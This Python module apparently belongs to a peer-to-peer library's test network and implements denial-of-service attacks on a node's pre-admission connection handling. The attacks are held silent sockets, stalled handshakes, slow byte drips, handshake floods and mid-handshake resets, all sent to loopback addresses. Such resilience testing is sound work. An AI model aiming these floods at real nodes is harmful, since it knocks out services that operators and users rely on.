"""Attacks before the admission: by anybody who can open a socket."""

import itertools
import os
from collections.abc import Awaitable, Callable
from typing import Final

import trio

from p2p.errors import DialError, LinkClosedError
from p2p.host.addresses import parse_address
from testnet.attack.eve import connected

On = Callable[[], None]
SOCKETS: Final = 1000
REOPEN_S: Final = 3.0
"""Less than the victim's patience, so that there are always as many."""
_MULTISTREAM: Final = b"\x13/multistream/1.0.0\n"


async def _socket(address: str, number: int, *, is_near: bool) -> trio.SocketStream:
    """From an address of 127.0.9.0/24, or from the victim's own."""
    where = parse_address(address)
    near = "127.0.0.1"
    from_host = near if is_near else f"127.0.9.{1 + number % 250}"
    return await trio.open_tcp_stream(where.host, where.port, local_address=from_host)


async def _hold(address: str, on: On, first: bytes, *, is_near: bool) -> None:
    """A thousand sockets that say `first` and then nothing, renewed all the time."""
    held: list[trio.SocketStream] = []
    try:
        while True:
            for number in range(SOCKETS):
                try:
                    socket = await _socket(address, number, is_near=is_near)
                    if first:
                        await socket.send_all(first)
                except (OSError, trio.BrokenResourceError):
                    await trio.sleep(0.01)
                    continue
                held.append(socket)
            on()
            await trio.sleep(REOPEN_S)
            while held:
                await trio.aclose_forcefully(held.pop())
    finally:
        for socket in held:
            socket.socket.close()


async def silent(address: str, on: On) -> None:
    """A thousand silent sockets of one prefix."""
    await _hold(address, on, b"", is_near=False)


async def silent_neighbours(address: str, on: On) -> None:
    """A thousand silent sockets of the very address the honest ones come from."""
    await _hold(address, on, b"", is_near=True)


async def stalled(address: str, on: On) -> None:
    """A thousand sockets of one prefix that begin like a peer and stop."""
    await _hold(address, on, _MULTISTREAM, is_near=False)


async def drips(address: str, on: On) -> None:
    """A hundred sockets that send the beginning of a handshake, one byte every ten seconds."""

    async def drip(number: int) -> None:
        while True:
            try:
                socket = await _socket(address, number, is_near=False)
                for at in itertools.count():
                    await socket.send_all(_MULTISTREAM[at % 20 :][:1])
                    await trio.sleep(10)
            except (OSError, trio.BrokenResourceError):
                await trio.sleep(0.1)

    await _many(100, drip, on)


async def handshakes(address: str, on: On) -> None:
    """Fresh keys without end: each shakes hands, holds its place for a moment and goes."""

    async def shake(number: int) -> None:
        while True:
            try:
                async with connected(address, os.urandom(16).hex()):
                    await trio.sleep(0.05)
            except (DialError, LinkClosedError):
                await trio.sleep(0.01)

    await _many(4, shake, on)


async def aborts(address: str, on: On) -> None:
    """Sockets that are reset at every point of a handshake."""
    whole = _MULTISTREAM + b"\x07/noise\n\x00\x20" + bytes(range(32))

    async def abort(number: int) -> None:
        for length in itertools.count():
            try:
                socket = await _socket(address, number, is_near=False)
                socket.setsockopt(1, 13, b"\x01\x00\x00\x00\x00\x00\x00\x00")  # linger 0: a reset
                await socket.send_all(whole[: length % len(whole)])
            except (OSError, trio.BrokenResourceError):
                await trio.sleep(0.01)
                continue
            socket.socket.close()
            await trio.sleep(0.002)

    await _many(4, abort, on)


async def _many(count: int, attack: Callable[[int], Awaitable[None]], on: On) -> None:
    async with trio.open_nursery() as nursery:
        for number in range(count):
            nursery.start_soon(attack, number)
        await trio.sleep(0.2)
        on()
